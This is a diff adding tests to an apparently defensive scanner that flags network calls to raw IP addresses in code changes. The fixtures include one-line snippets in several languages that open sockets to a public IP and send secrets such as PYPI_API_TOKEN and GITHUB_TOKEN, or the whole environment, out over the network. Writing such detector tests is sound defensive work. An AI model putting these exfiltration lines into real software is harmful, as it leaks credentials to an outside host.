@@ -534,6 +534,25 @@ describe('suspicious-network-endpoint: the whole environment sent, whatever the 
     expect(sent('src/client.py', ["requests.get('https://api.45-139-104-115.plesk.page/v1')"])).toEqual([['medium', 'Network call to a raw IP address', 11]]);
   });
 
+  it('reads a raw socket opened to a bare public IP literal as a call to a raw IP (no URL): Python, Go, Node, Java, Ruby, PHP', () => {
+    const raw = 'Network call to a raw IP address';
+    expect(sent('scripts/report_timings.py', ['import os, socket, base64', "s = socket.create_connection(('45.61.136.21', 443))", "s.sendall(base64.b64encode(os.environ.get('PYPI_API_TOKEN', '').encode()))"])).toEqual([['high', raw, 12]]);
+    // The address assigned to a name on a line of its own, in the hunk that connects.
+    expect(sent('pkg/telemetry.py', ["COLLECTOR = '45.61.136.21'", 'def report(stats):', '    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)', '    s.connect((COLLECTOR, 8443))', '    s.sendall(json.dumps(stats).encode())'])).toEqual([['medium', raw, 11]]);
+    expect(sent('internal/update/check.go', ['\tc, err := net.Dial("tcp", "45.61.136.21:4444")', '\tc.Write([]byte(os.Getenv("GITHUB_TOKEN")))'])).toEqual([['high', raw, 11]]);
+    expect(sent('lib/metrics.js', ["const c = net.connect(4444, '45.61.136.21', () => c.end(JSON.stringify(data)));"])).toEqual([['medium', raw, 11]]);
+    expect(sent('src/Beacon.java', ['try (Socket s = new Socket("45.61.136.21", 4444)) { s.getOutputStream().write(data); }'])).toEqual([['medium', raw, 11]]);
+    expect(sent('lib/ping.rb', ["TCPSocket.new('45.61.136.21', 4444).write(payload)"])).toEqual([['medium', raw, 11]]);
+    expect(sent('src/ping.php', ['$fp = fsockopen("45.61.136.21", 4444);'])).toEqual([['medium', raw, 11]]);
+  });
+
+  it('is quiet on a socket to a public DNS resolver (the local-address trick), a private, local, documentation or named host, and an IP literal with no socket', () => {
+    expect(sent('pkg/netutil.py', ['    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)', "    s.connect(('8.8.8.8', 80))", '    return s.getsockname()[0]'])).toEqual([]);
+    expect(sent('pkg/client.py', ["    return socket.create_connection(('127.0.0.1', 6379))", "    return socket.create_connection(('10.0.4.12', 6379))", "    return socket.create_connection(('redis.internal.acme.dev', 6379))", "    return socket.create_connection(('203.0.113.5', 80))"])).toEqual([]);
+    expect(sent('src/config/defaults.ts', ['export const DEFAULTS = {', "  ntpServer: '162.159.200.1',", '};'])).toEqual([]);
+    expect(sent('src/db.ts', ["export const client = new Client({ host: '10.0.4.12', port: 5432 });", 'await client.connect();'])).toEqual([]);
+  });
+
   it('reads C#\'s GetEnvironmentVariables(), a GET whose URL carries the environment, and Rust\'s ureq::post', () => {
     const whole = ['high', 'The whole environment is sent over the network'];
     expect(sent('src/Diag.cs', ['var env = System.Environment.GetEnvironmentVariables();', 'await new HttpClient().PostAsync("https://diag.example-metrics.dev/d", new StringContent(JsonSerializer.Serialize(env)));'])).toEqual([[...whole, 11]]);
